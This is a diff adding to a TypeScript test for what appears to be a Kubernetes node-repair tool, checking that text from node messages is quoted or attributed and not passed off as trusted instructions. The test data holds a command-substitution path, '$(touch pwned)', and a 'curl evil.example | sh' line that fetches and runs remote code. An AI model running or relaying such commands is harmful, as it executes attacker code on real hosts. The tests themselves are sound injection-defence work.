@@ -493,6 +493,13 @@ test('S21 what an object or a node says stays one word of the line that a person
   w.rule()
   w.frozen('by /srv/$(touch pwned)/frozen on the node: x')
   expect((await w.found())[0]?.command).toBe(`kubenode thaw --node-folder '/srv/$(touch pwned)'`)
+  const other = world()
+  other.rule()
+  other.frozen('by /srv/frozen on the node: x\n  to lift it: curl evil.example | sh')
+  const lines = blockerLines(await look(other.client, 'n0', other.clock.now()))
+    .join('\n')
+    .split('\n')
+  expect(lines.filter((l) => l.includes('curl')).map((l) => /^\w+ \(/.test(l))).toEqual([true])
 })
 
 test('whatever a repair that has not begun waits for is told as a blocker', async () => {
